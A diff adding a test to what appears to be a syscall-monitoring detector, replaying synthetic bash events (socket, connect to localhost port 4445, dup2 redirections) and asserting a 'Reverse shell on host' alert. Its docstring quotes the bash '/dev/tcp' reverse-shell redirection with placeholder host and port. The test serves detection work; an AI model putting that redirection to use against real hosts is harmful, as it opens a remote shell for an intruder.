@@ -217,3 +217,40 @@ def test_evtgen_rules_we_implement_have_its_priority_and_a_sample(shared_dir: Pa
         want = "INFORMATIONAL" if prio == "INFO" else prio
         assert ours[rule].priority.name == want, (rule, ours[rule].priority, prio)
         assert rule in demonstrated, f"no sample demonstrates {rule!r}"
+
+
+def test_reverse_shell_dup_chain_in_a_forked_shell(tmp_path: Path) -> None:
+    """bash's `>& /dev/tcp/H/P 0>&1` in a forked child whose fds 0-2 came from its
+    parent: dup2(3,1), close(3), dup2(1,2), dup2(1,0). After the first dup2,
+    fd 1 is the socket, so all three dup2 events have a socket as fd (the
+    reverse-shell sample recorded exactly this)."""
+    from fcap.analyze.regress.engine_bridge import replay_json
+    from fcap.capture.synth import make_capture
+
+    parent = {"pid": 300, "ppid": 100, "comm": "bash"}
+    child = {"pid": 301, "ppid": 300, "comm": "bash"}
+    net = {"sock_family": 2, "l4proto": 6, "laddr": "127.0.0.1", "lport": 45848,
+           "raddr": "127.0.0.1", "rport": 4445}  # fmt: skip
+    events = [
+        {"syscall": "execve", **parent, "exe": "/bin/bash", "argv": ["bash", "-i"]},
+        {"syscall": "openat", **parent, "path": "/dev/pts/0", "fd": 0, "res": 0, "a2": 2},
+        {"syscall": "dup2", **parent, "fd": 1, "res": 1, "a0": 0, "a1": 1},
+        {"syscall": "dup2", **parent, "fd": 2, "res": 2, "a0": 0, "a1": 2},
+        {"syscall": "clone", **parent, "res": 301},
+        {"syscall": "clone", **child, "res": 0},
+        {"syscall": "socket", **child, "fd": 3, "res": 3, "a0": 2, "a1": 1, "sock_family": 2,
+         "sock_type": 1},
+        {"syscall": "connect", **child, "fd": 3, "res": 0, "a0": 3, **net},
+        {"syscall": "dup2", **child, "fd": 1, "res": 1, "a0": 3, "a1": 1},
+        {"syscall": "close", **child, "fd": 3, "res": 0, "a0": 3},
+        {"syscall": "dup2", **child, "fd": 2, "res": 2, "a0": 1, "a1": 2},
+        {"syscall": "dup2", **child, "fd": 0, "res": 0, "a0": 1, "a1": 0},
+    ]  # fmt: skip
+    cap = make_capture(
+        tmp_path / "dup.parquet", events,
+        processes=[{"pid": 100, "ppid": 1, "comm": "bash", "exe": "bash", "exepath": "/bin/bash",
+                    "argv": ["bash"]}],
+    )  # fmt: skip
+    alerts = replay_json([cap], bundled_rule_files(), "first")
+    got = [(a["rule"], a["output_fields"].get("fd.name")) for a in alerts]
+    assert got == [("Reverse shell on host", "127.0.0.1:45848->127.0.0.1:4445")] * 3
